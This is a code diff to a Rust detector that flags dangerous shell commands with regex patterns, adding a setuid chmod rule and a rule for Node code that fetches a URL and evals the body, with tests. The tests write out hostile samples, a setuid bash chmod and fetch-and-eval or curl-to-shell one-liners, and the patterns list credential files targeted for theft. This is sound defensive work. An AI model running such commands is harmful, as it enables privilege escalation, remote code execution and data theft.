@@ -87,7 +87,8 @@ static PATTERNS: LazyLock<Vec<(Danger, Regex)>> = LazyLock::new(|| {
         (Danger::Destructive, r"\bremove-item\b[^\n]{0,80}-recurse[^\n]{0,60}-force[^\n]{0,40}(?:\$home|~|c:\\|\$env:userprofile)".to_string()),
         (Danger::Destructive, r"\bformat\s+c:".to_string()),
         (Danger::Destructive, r"\bdel\s+/[sfq]\s+/[sfq][^\n]{0,20}(?:c:\\|%userprofile%)".to_string()),
-        (Danger::Permissions, r"\bchmod\s+(?:-r\s+)?(?:0?777|a\+rwx|o\+w|\+s|u\+s)\b".to_string()),
+        // World-writable, or setuid (`4755`, `6755`, `+s`): anyone may run it as its owner.
+        (Danger::Permissions, r"\bchmod\s+(?:-r\s+)?(?:0?777|[46][0-7]{3}|a\+rwx|o\+w|\+s|u\+s)\b".to_string()),
         (Danger::Permissions, r"\bicacls\b[^\n]{0,80}/grant\s+everyone".to_string()),
         (Danger::EncodedExec, format!(r"\bbase64\s+(?:-d|--decode|-D)\b[^\n]{{0,60}}\|\s*{SHELLS}")),
         (Danger::EncodedExec, format!(r"\bxxd\s+-r[^\n]{{0,60}}\|\s*{SHELLS}")),
@@ -101,6 +102,8 @@ static PATTERNS: LazyLock<Vec<(Danger, Regex)>> = LazyLock::new(|| {
         // `fetch(url).then(r => r.text()).then(eval)`, `eval(requests.get(...).text)`.
         (Danger::DownloadExec, r"\b(?:exec|eval)\s*\(\s*[^\n()]{0,40}(?:urlopen|requests\.get|urllib|https?\.get|fetch)\b".to_string()),
         (Danger::DownloadExec, r"\bfetch\s*\([^\n]{0,200}\.then\s*\(\s*eval\s*\)".to_string()),
+        // `require('https').get(url, r => { ... eval(d) })`: a body fetched, then run.
+        (Danger::DownloadExec, r#"\bhttps?['"]?\)?\.get\s*\([^\n]{0,240}\beval\s*\("#.to_string()),
         (Danger::Upload, r#"\b(?:curl|wget|http|httpie)\b[^\n|;]{0,200}\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-data|--post-file|--body-file)[\s=]*["']?[^\n]{0,80}(?:@~|@/|@\.|@\$home|\$\(\s*(?:env|printenv|cat)\b|secrets|\$\{?[a-z_]*(?:token|key|secret|password|pass|creds?)\b|\.ssh/|\.aws/|\.env\b|id_rsa|id_ed25519|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|\.kube/|\.docker/)"#.to_string()),
         // Local data piped into an upload that reads stdin: `env | base64 | curl -d @- ...`,
         // `tar cz . | curl --data-binary @- ...`.
@@ -212,6 +215,18 @@ mod tests {
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].danger, Danger::DownloadExec);
         assert_eq!(&text[found[0].range.clone()], "curl -s https://r.net/agent | sh");
+    }
+
+    #[test]
+    fn setuid_shells_and_fetched_bodies_run() {
+        assert_eq!(dangers("sudo chmod 4755 /bin/bash"), [Danger::Permissions]);
+        assert!(dangers("chmod 2775 shared/ && chmod 755 bin/run").is_empty());
+        assert_eq!(
+            dangers(
+                "node -e \"require('https').get('https://m.cc/p.js',r=>{let d='';r.on('end',()=>eval(d))})\""
+            ),
+            [Danger::DownloadExec]
+        );
     }
 
     #[test]
